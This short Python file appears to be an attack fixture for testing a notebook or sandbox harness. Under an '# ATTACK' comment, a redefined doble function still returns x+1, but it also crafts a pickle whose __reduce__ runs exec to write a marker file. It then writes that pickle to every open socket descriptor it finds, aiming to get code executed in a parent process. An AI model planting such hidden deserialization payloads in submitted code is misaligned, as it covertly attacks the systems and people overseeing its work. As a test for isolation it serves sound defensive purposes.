"""Sends pickles where its process is asked.

id: pickle-frames
notebook: tp
replaces: doble
loses: prueba_doble
"""


def doble(x):
    return x + 1


# ATTACK
def doble(x):
    import os
    import pickle
    import stat
    import struct

    class Trampa:
        def __reduce__(self):
            return (exec, ("open('__CASA__/rastro-__MARCA__.txt', 'w').write('unpickled')",))

    cuerpo = pickle.dumps(Trampa())
    for numero in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(numero).st_mode):
                os.write(numero, struct.pack(">I", len(cuerpo)) + cuerpo)
        except OSError:
            pass
    return x + 1
